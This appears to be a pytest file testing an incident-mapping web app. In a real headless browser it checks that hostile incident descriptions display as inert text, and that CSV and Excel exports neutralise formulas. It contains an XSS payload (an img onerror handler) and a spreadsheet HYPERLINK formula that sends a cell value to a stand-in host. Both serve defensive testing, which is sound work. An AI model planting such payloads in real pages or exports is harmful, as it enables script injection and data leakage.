"""Hostile incident text in a real headless Chromium: shown as text, never run; formulas in
downloads neutralised."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from browser import (
    OUTPUT_DIR,
    REPO_ROOT,
    RequestLog,
    assert_only_loopback,
    chromium,  # noqa: F401  (fixture)
    component_frame,
    needs_chromium,
    streamlit_app,
)

from gis.access import Role
from gis.io_backends import access_store_for, open_workspace
from wijkradar.exports import csv_bytes, xlsx_bytes
from wijkradar.services import build_demo, import_file

PAGE = REPO_ROOT / "pages" / "4_Incidenten.py"
XSS = "<img src=x onerror=\"window.top.__xss=1;document.title='pwned'\"><b>vet</b>"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'


@pytest.fixture(scope="module")
def hostile_workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "demo.gpkg"
    today = pd.Timestamp.now().normalize()
    build_demo(path, ["ipz51"], seed=2, years=0.2, end=str(today.date()))
    workspace = open_workspace(path)
    own = next(u for u in access_store_for(workspace).users() if u.role is Role.INSPECTEUR)
    point = workspace.areas("wijken").set_index("code").representative_point()[own.wijken[0]]
    day = (today - pd.Timedelta(days=2)).strftime("%d/%m/%Y")
    pd.DataFrame(
        [
            ["XSS-1", "geluidsoverlast", f"{day} 22:00", "Kerkstraat", XSS],
            ["CSV-1", "vandalisme", f"{day} 23:00", FORMULA, FORMULA],
        ],
        columns=["PV-nummer", "Feit", "Datum", "Straat", "Omschrijving"],
    ).assign(Gemeente="Herent", X=round(point.x, 1), Y=round(point.y, 1)).to_csv(
        folder / "hostile.csv", sep=";", index=False
    )
    assert import_file(folder / "hostile.csv", workspace).result.stored == 2
    return path


OPEN_POPUPS = """
() => {
  const map = Object.values(window).find((v) => v instanceof L.Map);
  const texts = [];
  const targets = [];
  map.eachLayer((layer) => {
    const id = layer.feature && layer.feature.properties && layer.feature.properties.id;
    if ((id === "XSS-1" || id === "CSV-1") && layer.getLatLng) targets.push(layer);
  });
  for (const layer of targets) {  // a click opens the popup bound on the GeoJSON layer
    layer.fire("click", { latlng: layer.getLatLng() }, true);
    const element = document.querySelector(".leaflet-popup-content");
    texts.push([element.innerText, element.querySelectorAll("img, b").length]);
    map.closePopup();
  }
  return texts;
}
"""


@pytest.mark.browser
@needs_chromium
def test_hostile_description_is_shown_as_text(chromium, hostile_workspace: Path) -> None:
    env = {"WIJKRADAR_WORKSPACE": str(hostile_workspace), "WIJKRADAR_DEMO_LOGIN": "chef"}
    with streamlit_app(PAGE, env=env) as app:
        context = chromium.new_context(viewport={"width": 1400, "height": 1200})
        log = RequestLog().attach(context)
        page = context.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        try:
            page.goto(app.url)
            frame = component_frame(page, "streamlit_folium.st_folium")
            frame.wait_for_selector("path.incident-point", timeout=30_000)
            texts = frame.evaluate(OPEN_POPUPS)
            assert len(texts) == 2, texts
            shown = {text: tags for text, tags in texts}
            xss_text = next(text for text in shown if "XSS-1" in text)
            assert "<img src=x onerror=" in xss_text and "<b>vet</b>" in xss_text
            assert shown[xss_text] == 0, "the payload became HTML elements"
            assert any(FORMULA in text for text in shown)
            page.wait_for_timeout(500)
            assert frame.evaluate(
                "() => window.__xss === undefined && !document.title.includes('pwned')"
            )
            assert page.evaluate("() => window.__xss === undefined")
            assert "pwned" not in page.title()
            assert frame.locator("img[src='x']").count() == 0
            assert page.locator("img[src='x']").count() == 0
            OUTPUT_DIR.mkdir(parents=True, exist_ok=True)
            page.screenshot(path=str(OUTPUT_DIR / "incident_popup_escaped.png"), full_page=True)
            assert not errors, errors
            assert_only_loopback(log.urls)
        finally:
            context.close()
    log_rows = access_store_for(open_workspace(hostile_workspace)).audit(user="chef")
    assert "view" in set(log_rows["action"])
    assert not log_rows["filters"].str.contains("onerror|HYPERLINK").any()


def test_formulas_are_neutralised_in_csv_and_xlsx(hostile_workspace: Path) -> None:
    incidents = open_workspace(hostile_workspace).incidents()
    hostile = incidents[incidents["id"].isin(["XSS-1", "CSV-1"])].assign(amount=-3.5)
    text = csv_bytes(hostile).decode("utf-8-sig")
    frame = pd.read_csv(io.StringIO(text), sep=";", dtype=str)
    row = frame[frame["id"] == "CSV-1"].iloc[0]
    assert row["description"] == "'" + FORMULA and row["street"] == "'" + FORMULA
    assert row["amount"] == "-3.5", "numbers stay numbers"
    assert "geometry" not in frame.columns
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(hostile))).active
    header = [c.value for c in sheet[1]]
    cells = [sheet.cell(row=r, column=header.index("description") + 1) for r in (2, 3)]
    assert all(c.data_type == "s" for c in cells)
    assert {c.value for c in cells} == {"'" + FORMULA, XSS}
    assert not any(
        isinstance(c.value, str) and c.value.startswith("=") and c.data_type == "f"
        for row in sheet.iter_rows()
        for c in row
    )
